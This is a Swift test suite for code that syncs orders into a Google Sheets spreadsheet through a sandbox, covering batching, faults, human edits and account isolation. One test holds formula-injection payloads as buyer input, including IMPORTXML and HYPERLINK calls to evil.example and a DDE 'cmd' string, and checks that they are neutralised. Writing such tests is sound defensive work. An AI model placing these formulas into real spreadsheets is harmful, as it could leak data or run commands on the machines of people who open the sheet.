import BookingTail
import Google
import HTTP
import HTTPClient
import Kit
import OrderSheet
import Sandbox
import Testing

@Suite("Rows in the sheet", .serialized)
struct SheetTests {
  @Test("the first booking makes the heading and its row; the next one follows; a change stays put")
  func first() async throws {
    try await Seller.run { seller async throws in
      let tail = seller.tail()
      var report = await tail.carryOut([item(order("A"))])
      #expect(report.verdicts.map(\.outcome) == [.done])
      #expect(report.calls.map(\.endpoint) == ["ValuesGet", "ValuesAppend", "ValuesGet"])
      report = await tail.carryOut([item(order("B")), item(order("A", status: "confirmed"))])
      #expect(report.verdicts.map(\.outcome) == [.done, .done])
      let rows = try await seller.rows()
      #expect(rows.map { $0.first } == ["Order ID", "A", "B"])
      #expect(rows[0] == OrderRow.header)
      #expect(
        rows[1] == [
          "A", "2026-11-21 08:30", "Pat Example", "+1 613 555 0100", "2 x Laptop sleeve", "2",
          "confirmed", "ai", "",
        ])
    }
  }

  @Test("what is already shown costs one look and no write")
  func unchanged() async throws {
    try await Seller.run { seller async throws in
      let tail = seller.tail()
      _ = await tail.carryOut([item(order("A"))])
      let report = await tail.carryOut([item(order("A"))])
      #expect(report.verdicts.map(\.outcome) == [.done])
      #expect(report.calls.map(\.endpoint) == ["ValuesGet"])
      #expect(seller.booking("A").rowWrites == 1)
    }
  }

  @Test("a batch of many orders is one look, one write and one proof")
  func batch() async throws {
    try await Seller.run { seller async throws in
      let items = (1...400).map { item(order("O\($0)")) }
      let report = await seller.tail().carryOut(items)
      #expect(report.verdicts.allSatisfy { $0.outcome == .done } && report.verdicts.count == 400)
      #expect(report.calls.map(\.endpoint) == ["ValuesGet", "ValuesAppend", "ValuesGet"])
      #expect(report.calls[1].subjects.count == 400)
      #expect(report.calls.allSatisfy { $0.isSuccess && $0.correlationID == "sheets/acme" })
    }
  }

  @Test("writes are cut to the size that the service likes")
  func largeBatch() async throws {
    try await Seller.run { seller async throws in
      let items = (1...60).map { item(order("O\($0)", notes: String(repeating: "n", count: 900))) }
      let report = await seller.tail { $0.writeBytesMax = 20_000 }.carryOut(items)
      #expect(report.verdicts.allSatisfy { $0.outcome == .done })
      let writes = report.calls.filter { $0.endpoint == "ValuesAppend" }
      #expect(writes.count > 2 && writes.allSatisfy { $0.requestBody.count < 40_000 })
      #expect(try await seller.rows().count == 61)
    }
  }

  @Test("two versions in one batch are one row, the newer")
  func versions() async throws {
    try await Seller.run { seller async throws in
      let new = order("A", status: "confirmed", version: 2)
      let report = await seller.tail().carryOut([item(new), item(order("A"))])
      #expect(report.verdicts.map(\.outcome) == [.done, .done])
      #expect(try await seller.row("A")?[6] == "confirmed")
      #expect(seller.booking("A").rows == 1)
    }
  }

  /// Each fault at each call of a pass; where the fault knows both, before and after the work.
  static let faults: [FaultRule] =
    ["sheet_get", "sheet_append", "sheet_batch_update", "token"].flatMap { call -> [FaultRule] in
      [
        FaultRule(call: call, fault: .answerLost, times: 1),
        FaultRule(call: call, fault: .requestLost, times: 1),
        FaultRule(call: call, fault: .truncated, times: 1),
        FaultRule(call: call, fault: .throttled, times: 1, retryAfter: 7),
        FaultRule(call: call, fault: .throttled, times: 1, when: .after),
        FaultRule(call: call, fault: .status, times: 1, when: .before, status: 503),
        FaultRule(call: call, fault: .status, times: 1, when: .after, status: 503),
        FaultRule(call: call, fault: .status, times: 1, when: .after, status: 500),
        FaultRule(call: call, fault: .html502, times: 1, when: .before),
        FaultRule(call: call, fault: .html502, times: 1, when: .after),
        FaultRule(call: call, fault: .schemaError, times: 1),
        FaultRule(call: call, fault: .malformed, times: 1),
        FaultRule(call: call, fault: .entityBomb, times: 1),
        FaultRule(call: call, fault: .humanSort, times: 1, when: .before),
        FaultRule(call: call, fault: .humanSort, times: 1, when: .after),
        FaultRule(call: call, fault: .writeDropped, times: 1),
        FaultRule(call: call, fault: .answerLost, times: 3),
        FaultRule(call: call, fault: .status, times: 3, when: .after, status: 503),
      ]
    }

  @Test("one row an order and its last state under every dial", arguments: faults)
  func dials(rule: FaultRule) async throws {
    try await Seller.run { seller async throws in
      let tail = seller.tail()
      var outbox = Outbox()
      outbox.add((1...5).map { item(order("O\($0)")) }, at: seller.clock.now)
      try await outbox.drain(tail, seller.clock)
      seller.sandbox.setDials([rule])
      if rule.call == "token" { try await seller.control("POST", "expire-tokens") }
      outbox.add(
        [item(order("O5", status: "confirmed", version: 2)), item(order("O6"))]
          + [item(order("O1", status: "cancelled", version: 2)), item(order("O7"))],
        at: seller.clock.now)
      try await outbox.drain(tail, seller.clock)
      #expect(outbox.failed.isEmpty)
      let rows = try await seller.rows().filter { $0.first?.isEmpty == false }
      #expect(
        rows.map { $0[0] }.sorted() == ["O1", "O2", "O3", "O4", "O5", "O6", "O7", "Order ID"])
      let states = Dictionary(rows.map { ($0[0], $0[6]) }) { a, _ in a }
      #expect(states["O5"] == "confirmed" && states["O1"] == "cancelled")
      #expect(states["O2"] == "pending" && states["O7"] == "pending")
      #expect(seller.sandbox.tally().violations.isEmpty)
      #expect(seller.sandbox.dialsFired[0] > 0)
    }
  }

  @Test("an addition that lands after a minute makes a double, and the sweep heals it")
  func landsLate() async throws {
    try await Seller.run { seller async throws in
      let tail = seller.tail()
      _ = await tail.carryOut([item(order("A"))])
      seller.sandbox.setDials([
        FaultRule(call: "sheet_append", fault: .landsLate, times: 1, ms: 6_000)
      ])
      let lost = await tail.carryOut([item(order("B"))])
      guard case .lookUp(let after, _) = lost.verdicts[0].outcome else {
        Issue.record("\(lost.verdicts)")
        return
      }
      #expect(after == .seconds(60), "longer than the sheet could still be at work")
      // The second try comes before the first one landed: the worst case.
      _ = await tail.carryOut([item(order("B"), tries: 1, mayBeDone: true)])
      for _ in 0..<6_000 where seller.booking("B").rows < 2 {
        try await Task.sleep(for: .milliseconds(10))
      }
      #expect(seller.booking("B").rows == 2)
      let swept = await tail.sweep(Seller.business, [order("A"), order("B")])
      #expect(swept.open.isEmpty)
      #expect(seller.booking("A").rows == 1 && seller.booking("B").rows == 1)
    }
  }

  @Test("a sort between the look and the write loses no other order's row")
  func sortedSheet() async throws {
    try await Seller.run { seller async throws in
      let tail = seller.tail()
      _ = await tail.carryOut((1...9).map { item(order("O\($0)", notes: "note \($0)")) })
      for round in 1...6 {
        seller.sandbox.setDials([
          FaultRule(call: "sheet_batch_update", fault: .humanSort, times: round % 2 + 1)
        ])
        let version = Int64(round + 1)
        let changed = [1, 4, 8].map {
          order("O\($0)", status: "v\(round)", notes: "note \($0)", version: version)
        }
        let report = await tail.carryOut(changed.map { item($0) })
        #expect(report.verdicts.allSatisfy { $0.outcome == .done }, "\(report.verdicts)")
        let rows = try await seller.rows().filter { $0.first?.isEmpty == false }
        #expect(rows.count == 10, "round \(round)")
        for number in 1...9 {
          let row = rows.first { $0[0] == "O\(number)" }
          #expect(row?[8] == "note \(number)" && row?[5] == "2")
          #expect(row?[6] == ([1, 4, 8].contains(number) ? "v\(round)" : "pending"))
        }
      }
      #expect(seller.sandbox.tally().violations.isEmpty)
    }
  }

  @Test("a person's own columns, rows and removals are left alone")
  func person() async throws {
    try await Seller.run { seller async throws in
      let tail = seller.tail()
      _ = await tail.carryOut([item(order("A")), item(order("B"))])
      try await seller.person("row", #"{"row":6,"values":["","my own note"]}"#)
      try await seller.person(
        "row", #"{"row":2,"values":["A",null,null,null,null,null,null,null,null,"call back"]}"#)
      try await seller.person("delete", #"{"row":3}"#)
      _ = await tail.carryOut([
        item(order("A", status: "confirmed", version: 2)), item(order("C")),
      ])
      let rows = try await seller.rows()
      #expect(rows.contains { $0.count > 1 && $0[1] == "my own note" })
      #expect(rows.first { $0.first == "A" }.map { $0.count > 9 ? $0[9] : "" } == "call back")
      #expect(!rows.contains { $0.first == "B" } && rows.contains { $0.first == "C" })
    }
  }

  @Test("formulas of buyers arrive as text, whatever they look like")
  func injection() async throws {
    try await Seller.run { seller async throws in
      let evil = [
        "=IMPORTXML(\"http://evil.example\",\"//a\")", "+cmd|' /C calc'!A0", "@SUM(A1:A9)", "-A1+1",
        "\t=1+1", "=HYPERLINK(\"http://evil.example\")",
      ]
      let rows = evil.enumerated().map { order("E\($0)", customer: $1, notes: $1) }
      let report = await seller.tail().carryOut(rows.map { item($0) })
      #expect(report.verdicts.allSatisfy { $0.outcome == .done })
      #expect(seller.sandbox.tally().violations.isEmpty)
      for row in try await seller.rows().dropFirst() {
        #expect(row[2].hasPrefix("'") && row[8].hasPrefix("'"))
      }
      // RAW is what the calls say, not only what the cells look like.
      let writes = seller.sandbox.requests.filter { $0.call == "sheet_append" }
      #expect(!writes.isEmpty && writes.allSatisfy { $0.target.contains("valueInputOption=RAW") })
    }
  }

  @Test("the sandbox would have run a formula that came in as typed")
  func typed() async throws {
    try await Seller.run { seller async throws in
      _ = await seller.tail().carryOut([item(order("A"))])
      let clock = seller.clock
      let client = TokenClient.live(http: seller.http, now: { clock.now })
      let token = try await client.fetch(seller.account, .sheets).result.get()
      let range = A1Range.row(2, of: "Orders", columns: 2)
      let body = #"{"range":"\#(range)","values":[["A","=1+1"]]}"#
      let response = try await seller.http.send(
        .init(
          method: "PUT",
          url: seller.sandbox.baseURL + "/v4/spreadsheets/sandbox-spreadsheet/values/"
            + range.encoded + "?valueInputOption=USER_ENTERED",
          headers: [
            "Authorization": "Bearer " + token.value, "Content-Type": "application/json",
          ], body: Array(body.utf8)))
      #expect(response.status == 200)
      #expect(seller.sandbox.tally().violations.map(\.name) == ["live_formula"])
    }
  }

  @Test("a business writes with its own account, also where it names another's sheet")
  func ownAccount() async throws {
    try await Seller.run { seller async throws in
      var impostor = seller.account
      impostor.privateKey = try RSAKeyMaker.privateKey()
      let good = seller.sheet
      let bad = seller.accounts.sheet(
        of: seller.sandbox.settings.spreadsheetID, for: impostor)
      let tail = BookingTail(
        TailDestinations(sheet: { $0 == Seller.business ? good : bad }, push: { _ in nil }),
        surroundings: Seller.surroundings(seller.clock))
      var other = item(order("EVIL"))
      other.businessID = "impostor"
      let report = await tail.carryOut([item(order("A")), other])
      #expect(report.outcomes["sheets/A/1"] == .done)
      #expect(seller.booking("EVIL").rows == 0)
      guard case .failed = report.outcomes["sheets/EVIL/1"] else {
        Issue.record("\(report.outcomes)")
        return
      }
    }
  }

  @Test("parallel batches over one sheet go one after the other")
  func parallel() async throws {
    try await Seller.run { seller async throws in
      let tail = seller.tail()
      _ = await tail.carryOut([item(order("O0"))])
      await withTaskGroup(of: Void.self) { group in
        for number in 1...12 {
          group.addTask {
            let report = await tail.carryOut([
              item(order("O\(number)")), item(order("O0", status: "v\(number)", version: 2)),
            ])
            #expect(report.outcomes["sheets/O\(number)/1"] == .done)
          }
        }
      }
      #expect(try await seller.rows().count == 14)
      #expect(seller.sandbox.tally().violations.isEmpty)
      #expect((1...12).allSatisfy { seller.booking("O\($0)").rowWrites == 1 })
    }
  }
}
